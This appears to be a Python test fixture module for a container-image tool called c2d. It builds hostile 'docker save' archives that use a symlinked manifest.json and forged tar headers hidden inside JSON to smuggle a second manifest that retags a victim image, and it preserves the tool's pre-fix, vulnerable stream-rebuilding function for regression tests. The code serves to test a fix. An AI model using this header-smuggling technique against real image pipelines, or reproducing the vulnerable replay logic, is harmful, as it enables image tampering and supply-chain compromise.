"""Hostile ``docker save`` archives for tests, and the stream c2d sent before it rebuilt them.

``smuggling_archive`` is the attack of the security finding: ``manifest.json`` is a symlink to
a real manifest whose ``Parent`` (listed first) is built so that, once the pre-fix c2d wrote
its cleaned manifest as the symlink's data, a tar reader (which reads no data after a symlink)
parses those bytes as headers: a harmless empty file, then a second ``manifest.json`` whose data
is a manifest naming ``RepoTags: [victim]``. Docker's loader decodes only the first JSON value
of a manifest, so the rest of the cleaned manifest after it is ignored, and the next header
falls where the original archive's next member begins. ``old_untagged_stream`` is the pre-fix
``runner.host.images.archive.untagged_stream``, kept here only to show what it let through.
"""

from __future__ import annotations

import copy
import io
import json
import posixpath
import tarfile
from pathlib import Path
from typing import Any

_LEAD = '[{"Parent": ["'  # how the cleaned manifest began once Parent was its first key


def _field(text: str, size: int) -> bytes:
    data = text.encode()
    assert len(data) <= size
    return data + b" " * (size - len(data))


def forged_header(name: str, size: int, tail: bytes = b"") -> bytes:
    """A 512-byte V7 tar header for a regular file, with no NUL (so JSON can carry it).

    ``name`` is exactly 100 characters; its ustar prefix is ``./`` repeated, so Python's
    tarfile, which reads the prefix, and Go's, which does not, agree once the name is cleaned.
    ``tail`` ends the block (the JSON between two strings).
    """
    assert len(name) == 100, len(name)
    block = b"".join(
        [
            name.encode(),
            _field("0000644", 8) + _field("0000000", 8) + _field("0000000", 8),
            _field(f"{size:011o}", 12),
            _field("00000000000", 12),
            b" " * 8,  # the checksum, filled in below
            b"0",
            b" " * 100 + b" " * 88,  # link name; magic (not ustar: a V7 header), owner, devices
            ("./" * 77 + ".").encode(),
            b" " * (12 - len(tail)) + tail,
        ]
    )
    assert len(block) == tarfile.BLOCKSIZE
    return block[:148] + _field(f"{sum(block):07o}", 8) + block[156:]


def _cleaned(entry: dict[str, Any]) -> bytes:
    """The manifest the pre-fix c2d wrote for a checked entry."""
    return json.dumps([{**entry, "RepoTags": None}]).encode()


def smuggling_manifest(config: str, layers: list[str], victim: str) -> dict[str, Any]:
    """A manifest entry for ``config`` and ``layers`` whose cleaned bytes retag ``victim``."""
    second = [{"Config": config, "RepoTags": [victim], "Layers": layers}]

    def entry(text: str) -> dict[str, Any]:
        return {"Parent": [text, second], "Config": config, "RepoTags": None, "Layers": layers}

    # Bytes 0-511: an empty file; 512-1023: "manifest.json", whose data starts at 1024 with the
    # second manifest and runs to the end of the cleaned manifest. The first string of Parent
    # holds both headers and closes (`", `) right before byte 1024.
    length = len(_cleaned(entry("a" * (1024 - 3 - len(_LEAD)))))
    blocks = forged_header(_LEAD + "a" * (100 - len(_LEAD)), 0) + forged_header(
        "./" * 43 + "/manifest.json", length - 1024, tail=b'", '
    )
    text = blocks[len(_LEAD) : 1024 - 3].decode()
    assert '"' not in text
    assert "\\" not in text
    found = entry(text)
    assert _cleaned(found)[:1024] == blocks
    assert len(_cleaned(found)) == length
    return found


def _manifest_of(tar: tarfile.TarFile) -> tuple[str, list[str]]:
    handle = tar.extractfile("manifest.json")
    assert handle is not None
    (entry,) = json.load(handle)
    return entry["Config"], entry["Layers"]


def smuggling_archive(src: Path, dest: Path, victim: str) -> Path:
    """``src`` (one image, a regular ``manifest.json``) as the finding's attack on ``victim``."""
    with tarfile.open(src) as tar, tarfile.open(dest, "w") as out:
        config, layers = _manifest_of(tar)
        for member in tar:
            if member.name not in ("manifest.json", "repositories"):
                out.addfile(member, tar.extractfile(member) if member.isreg() else None)
        data = json.dumps([smuggling_manifest(config, layers, victim)]).encode()
        real = tarfile.TarInfo("real-manifest.json")
        real.size = len(data)
        out.addfile(real, io.BytesIO(data))
        link = tarfile.TarInfo("manifest.json")
        link.type = tarfile.SYMTYPE
        link.linkname = "real-manifest.json"
        out.addfile(link)
    return dest


def annotated_archive(src: Path, dest: Path, victim: str) -> Path:
    """``src`` plus an OCI ``index.json`` and ``oci-layout`` that name ``victim``."""
    repo, _, tag = victim.rpartition(":")
    index = {
        "schemaVersion": 2,
        "manifests": [
            {
                "mediaType": "application/vnd.oci.image.manifest.v1+json",
                "digest": "sha256:" + "0" * 64,
                "size": 2,
                "annotations": {
                    "io.containerd.image.name": f"docker.io/{victim}",
                    "org.opencontainers.image.ref.name": tag,
                    "org.opencontainers.image.base.name": repo,
                },
            }
        ],
    }
    extra = {
        "index.json": json.dumps(index).encode(),
        "oci-layout": b'{"imageLayoutVersion":"1.0.0"}',
    }
    with tarfile.open(src) as tar, tarfile.open(dest, "w") as out:
        for member in tar:
            out.addfile(member, tar.extractfile(member) if member.isreg() else None)
        for name, data in extra.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            out.addfile(info, io.BytesIO(data))
    return dest


def old_untagged_stream(path: Path) -> bytes:
    """What the pre-fix c2d sent the engine for the archive at ``path`` (its checks passing).

    The replay, as it was: every member's header copied, ``repositories`` left out, and the
    cleaned manifest written after ``manifest.json``'s own header, even when that is a symlink.
    """
    with tarfile.open(path) as tar:
        target = tar.getmember("manifest.json")
        if target.issym():
            target = tar.getmember(posixpath.normpath(target.linkname))
        handle = tar.extractfile(target)
        assert handle is not None
        (entry,) = json.load(handle)
    manifest = _cleaned(entry)
    out = bytearray()
    with tarfile.open(path) as tar:
        for info in tar:
            name = posixpath.normpath(info.name)
            if name == "repositories":
                continue
            if name == "manifest.json":
                header = copy.copy(info)
                header.size = len(manifest)
                out += header.tobuf(tarfile.PAX_FORMAT, "utf-8", "surrogateescape")
                out += manifest + b"\0" * (-len(manifest) % tarfile.BLOCKSIZE)
                continue
            out += info.tobuf(tarfile.PAX_FORMAT, "utf-8", "surrogateescape")
            if info.isreg():
                handle = tar.extractfile(info)
                assert handle is not None
                out += handle.read() + b"\0" * (-info.size % tarfile.BLOCKSIZE)
    return bytes(out + b"\0" * (2 * tarfile.BLOCKSIZE))


def first_json(data: bytes) -> Any:
    """The first JSON value in ``data``, as Docker's loader reads ``manifest.json``."""
    return json.JSONDecoder().raw_decode(data.decode())[0]


def read_back(stream: bytes) -> list[tuple[str, bytes, bytes]]:
    """A tar stream as a reader sees it: (cleaned name, type, data) of each member, in order."""
    found = []
    with tarfile.open(fileobj=io.BytesIO(stream), mode="r:") as tar:
        for info in tar:
            handle = tar.extractfile(info) if info.isreg() else None
            data = handle.read() if handle else b""
            found.append((posixpath.normpath(info.name), info.type, data))
    return found
